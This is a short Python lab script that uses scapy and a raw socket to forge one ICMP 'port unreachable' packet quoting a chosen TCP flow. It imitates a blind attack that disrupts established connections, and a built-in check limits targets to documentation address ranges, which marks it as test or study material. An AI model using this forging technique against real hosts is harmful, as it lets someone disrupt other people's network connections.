"""A forged ICMP error, for the lab only: one "port unreachable" to DST that quotes a TCP
segment QSRC:QSPORT > QDST:QDPORT with sequence number SEQ, as an attacker who knows a flow's
addresses and ports would send it; built by scapy, sent with a raw socket from the namespace
it runs in. Prints one JSON line: {"sent": 1}.

    icmpforge.py DST QSRC QSPORT QDST QDPORT SEQ
"""

from __future__ import annotations

import ipaddress
import json
import socket
import sys

from scapy.layers.inet import ICMP, IP, TCP

DOC_RANGES = [
    ipaddress.ip_network(n) for n in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24")
]


def main() -> int:
    dst, qsrc, qdst = sys.argv[1], sys.argv[2], sys.argv[4]
    qsport, qdport, seq = int(sys.argv[3]), int(sys.argv[5]), int(sys.argv[6])
    for a in (dst, qsrc, qdst):
        if not any(ipaddress.ip_address(a) in n for n in DOC_RANGES):
            print(f"refused: {a} is not in the documentation ranges", file=sys.stderr)
            return 2
    quoted = IP(src=qsrc, dst=qdst) / TCP(sport=qsport, dport=qdport, flags="A", seq=seq)
    err = IP(dst=dst) / ICMP(type=3, code=3) / bytes(quoted)[:28]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.sendto(bytes(err), (dst, 0))
    s.close()
    print(json.dumps({"sent": 1}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
